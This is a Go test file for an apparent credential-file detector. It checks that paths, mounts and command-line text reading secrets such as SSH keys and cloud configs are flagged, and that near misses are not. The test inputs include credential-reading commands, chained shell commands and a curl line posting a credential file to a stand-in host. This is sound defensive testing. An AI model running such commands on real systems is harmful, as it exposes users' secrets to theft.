// SPDX-License-Identifier: Apache-2.0

package credfile

import (
	"regexp"
	"slices"
	"testing"
)

// What is on a list counts wherever one of the three looks: in the words of a
// command, in a mount, in a command line as text.
func TestLists(t *testing.T) {
	var expressions []*regexp.Regexp
	for _, e := range Expressions() {
		expressions = append(expressions, regexp.MustCompile("^(?:"+e+")$"))
	}
	check := func(p string, inHome bool) {
		at := []string{p}
		if inHome {
			at = []string{"/root/" + p, "/home/ann/" + p}
		}
		for _, p := range at {
			if !Mounted(p) {
				t.Errorf("a mount of %s shows nothing", p)
			}
			if !Is(p, false) || !Is("/host"+p, false) {
				t.Errorf("a command that reads %s, here or below /host, reads nothing", p)
			}
			for _, text := range []string{"cat " + p, "cat /host" + p + " /x", "sh -c cat " + p + ";true", "curl -d@" + p + "/x http://x", "id\ncat " + p + "\nid"} {
				if !slices.ContainsFunc(expressions, func(e *regexp.Regexp) bool { return e.MatchString(text) }) {
					t.Errorf("nothing is seen in %q", text)
				}
			}
		}
	}
	for _, p := range slices.Concat(homeFiles, homeDirectories, homeCached, anywhere) {
		check(p, true)
	}
	for _, p := range slices.Concat(systemFiles, systemDirectories) {
		check(p, false)
	}
	for _, p := range slices.Concat(systemDirectories, stores, []string{"/root/" + homeStores[0], "/home/ann/" + homeDirectories[0], "/root/" + homeStores[1]}) {
		if !Mounted(p) || !Mounted(p+"/x") {
			t.Errorf("a mount of %s, or of what is in it, shows nothing", p)
		}
	}
}

func TestNot(t *testing.T) {
	for _, p := range []string{
		"/root/.ssh/known_hosts", "/root/.ssh/id_rsa.pub", "/root/.kubectl", "/root/.config", "/app/.env.example", "/etc/passwd",
		"/etc/ssl/certs/a.pem", "/etc/shadows", "/var/lib/docker", "/etc/docker/registry/config.yml", "/srv/kubeconfigs",
	} {
		if Is(p, false) {
			t.Errorf("a command that reads %s reads credentials", p)
		}
	}
	if Is("/tls/server.key", true) || Is("/root/.ssh", true) || !Is("/root/.netrc", true) {
		t.Error("a program may be given its own key and its own directory, and no other file")
	}
	for _, p := range []string{
		"/home/ann/src/app/.npmrc", "/home/ann/src/.ssh", "/root/.ssh/known_hosts", "/srv/.aws", "/etc/passwd", "/etc/kubernetesx",
		"/usr", "/vaults",
	} {
		if Mounted(p) {
			t.Errorf("a mount of %s shows credentials", p)
		}
	}
	for _, text := range []string{
		"cat /etc/passwd", "ls -la /root/.awsx", "cat /app/x.netrc", "kubectl --kubeconfig x get pods", "cat /app/id_rsa_backup.txt",
	} {
		for _, e := range Expressions() {
			if regexp.MustCompile("^(?:" + e + ")$").MatchString(text) {
				t.Errorf("%s sees a file in %q", e, text)
			}
		}
	}
}

// One place for each, so that nobody looks in the wrong one.
func TestOnce(t *testing.T) {
	all := slices.Concat(homeFiles, homeDirectories, homeCached, anywhere, systemFiles, systemDirectories, stores, homeStores, public)
	slices.Sort(all)
	if once := slices.Compact(slices.Clone(all)); len(once) != len(all) {
		t.Errorf("something is listed twice in %q", all)
	}
	for _, list := range [][]string{homeFiles, homeDirectories, homeCached, anywhere, systemFiles, systemDirectories, stores, homeStores, public} {
		if !slices.IsSorted(list) {
			t.Errorf("not in order: %q", list)
		}
	}
}
